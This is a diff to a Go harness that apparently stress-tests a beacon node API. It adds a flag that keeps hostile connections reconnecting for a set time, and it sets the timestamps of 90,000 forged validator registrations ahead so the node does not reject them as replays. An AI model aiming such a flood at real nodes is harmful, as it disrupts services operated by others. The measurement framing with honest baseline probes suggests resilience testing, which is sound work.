@@ -56,6 +56,7 @@ var (
 	baseline = flag.Duration("baseline", 3*time.Second, "honest probes without attack before each run")
 	repeat   = flag.Int("repeat", 1, "runs (baseline, attack, settle) one after the other")
 	niceness = flag.Int("nice", 0, "niceness of the attacker process (the honest probes stay at 0)")
+	sustain  = flag.Duration("sustain", 0, "each hostile connection, once answered, starts again on a new one until this has passed (0: once)")
 	role     = flag.String("role", "", "internal: attacker runs the attack alone and prints its answers")
 )
 
@@ -400,10 +401,16 @@ func run(host string) map[string]int {
 		wg.Add(1)
 		go func(i int) {
 			defer wg.Done()
-			got := one(host, i, payload)
-			mu.Lock()
-			answers[got]++
-			mu.Unlock()
+			start := time.Now()
+			for {
+				got := one(host, i, payload)
+				mu.Lock()
+				answers[got]++
+				mu.Unlock()
+				if time.Since(start) >= *sustain {
+					return
+				}
+			}
 		}(i)
 	}
 	wg.Wait()
@@ -450,7 +457,9 @@ func dutyTrace() []byte {
 func registrations() []byte {
 	reg := validatorDuties().registration(0)
 	reg.Message.GasLimit++
-	reg.Message.Timestamp = uint64(time.Now().Unix()) // newer than the stored one: not skipped as a replay
+	// Newer than the stored one, and than the honest probes' (which follow
+	// the clock): not skipped as a replay, within the 10 s lookahead.
+	reg.Message.Timestamp = uint64(time.Now().Unix()) + 8
 	many := make([]beacon.SignedValidatorRegistration, 90_000)
 	for i := range many {
 		many[i] = reg
